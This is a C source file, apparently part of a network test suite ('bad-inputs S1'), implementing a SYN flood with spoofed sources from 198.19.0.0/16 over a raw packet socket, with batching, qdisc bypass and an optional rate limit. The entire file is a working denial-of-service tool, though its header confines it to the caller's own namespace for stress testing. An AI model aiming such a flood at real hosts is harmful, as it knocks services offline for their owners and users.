/*
 * A SYN flood from spoofed sources, as fast as the interface takes it or at a rate, for as many
 * seconds as asked (bad-inputs S1). Only for an interface inside a namespace of the caller's own.
 *
 *      flood IFACE MAC ADDRESS PORT SECONDS [PER-SECOND]
 *
 * Sources are 198.19.0.0/16. Prints how many frames the interface took and how many it refused.
 */
#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 64
#define SOURCES 0xc6130000u /* 198.19.0.0/16 */

struct syn {
	struct ethhdr ether;
	struct iphdr ip;
	struct tcphdr tcp;
} __attribute__((packed));

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* xorshift: a flood needs variety, not secrecy. */
static uint32_t random_next(uint32_t *x)
{
	*x ^= *x << 13;
	*x ^= *x >> 17;
	*x ^= *x << 5;
	return *x;
}

static uint32_t sum(const void *data, size_t len, uint32_t start)
{
	const uint8_t *p = data;

	for (size_t i = 0; i + 1 < len; i += 2)
		start += (uint32_t)(p[i] << 8 | p[i + 1]);
	return start;
}

static uint16_t fold(uint32_t s)
{
	s = (s & 0xffff) + (s >> 16);
	return htons((uint16_t)~((s & 0xffff) + (s >> 16)));
}

static void prepare(struct syn *f, const uint8_t *mac, in_addr_t to, uint16_t port)
{
	memset(f, 0, sizeof(*f));
	memcpy(f->ether.h_dest, mac, ETH_ALEN);
	memcpy(f->ether.h_source, "\x02\xaa\xbb\xcc\xdd\x01", ETH_ALEN);
	f->ether.h_proto = htons(ETH_P_IP);
	f->ip = (struct iphdr){.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP, .daddr = to,
			       .tot_len = htons(sizeof(f->ip) + sizeof(f->tcp)), .frag_off = htons(IP_DF)};
	f->tcp = (struct tcphdr){.dest = htons(port), .doff = 5, .syn = 1, .window = htons(65535)};
}

static void vary(struct syn *f, uint32_t *x)
{
	uint32_t a = random_next(x), b = random_next(x);

	f->ip.saddr = htonl(SOURCES | (a & 0xffff));
	f->tcp.source = htons((uint16_t)(1024 + (a >> 16) % 64000));
	f->tcp.seq = b;
	f->ip.check = 0;
	f->ip.check = fold(sum(&f->ip, sizeof(f->ip), 0));
	f->tcp.check = 0;
	f->tcp.check = fold(sum(&f->tcp, sizeof(f->tcp), sum(&f->ip.saddr, 8, IPPROTO_TCP + sizeof(f->tcp))));
}

static int open_wire(const char *name)
{
	struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(name)};
	int fd = socket(AF_PACKET, SOCK_RAW, 0), yes = 1;

	if (fd < 0 || to.sll_ifindex == 0 || bind(fd, (void *)&to, sizeof(to)) != 0) {
		perror(name);
		exit(EXIT_FAILURE);
	}
	setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &yes, sizeof(yes));
	return fd;
}

static void run(int fd, struct syn *model, double seconds, double rate)
{
	static struct syn frames[BATCH];
	static struct iovec iov[BATCH];
	static struct mmsghdr batch[BATCH];
	double start = now(), end = start + seconds;
	uint64_t taken = 0, refused = 0;
	uint32_t x = 88172645;

	for (unsigned i = 0; i < BATCH; i++) {
		frames[i] = *model;
		iov[i] = (struct iovec){&frames[i], sizeof(frames[i])};
		batch[i].msg_hdr = (struct msghdr){.msg_iov = &iov[i], .msg_iovlen = 1};
	}
	for (double t = start; t < end; t = now()) {
		if (rate > 0 && (double)(taken + refused) > (t - start) * rate) {
			nanosleep(&(struct timespec){.tv_nsec = 200000}, NULL);
			continue;
		}
		for (unsigned i = 0; i < BATCH; i++)
			vary(&frames[i], &x);
		int n = sendmmsg(fd, batch, BATCH, 0);
		taken += n > 0 ? (uint64_t)n : 0;
		refused += n < BATCH;
	}
	printf("taken %llu refused-batches %llu per-second %.0f\n", (unsigned long long)taken,
	       (unsigned long long)refused, (double)taken / (now() - start));
}

int main(int argc, char **argv)
{
	struct syn model;
	unsigned m[ETH_ALEN];
	uint8_t mac[ETH_ALEN];
	struct in_addr to;

	if (argc < 6 || sscanf(argv[2], "%x:%x:%x:%x:%x:%x", &m[0], &m[1], &m[2], &m[3], &m[4], &m[5]) != ETH_ALEN ||
	    inet_pton(AF_INET, argv[3], &to) != 1) {
		fputs("usage: flood IFACE MAC ADDRESS PORT SECONDS [PER-SECOND]\n", stderr);
		return EXIT_FAILURE;
	}
	for (unsigned i = 0; i < ETH_ALEN; i++)
		mac[i] = (uint8_t)m[i];
	prepare(&model, mac, to.s_addr, (uint16_t)atoi(argv[4]));
	run(open_wire(argv[1]), &model, atof(argv[5]), argc > 6 ? atof(argv[6]) : 0);
	return EXIT_SUCCESS;
}
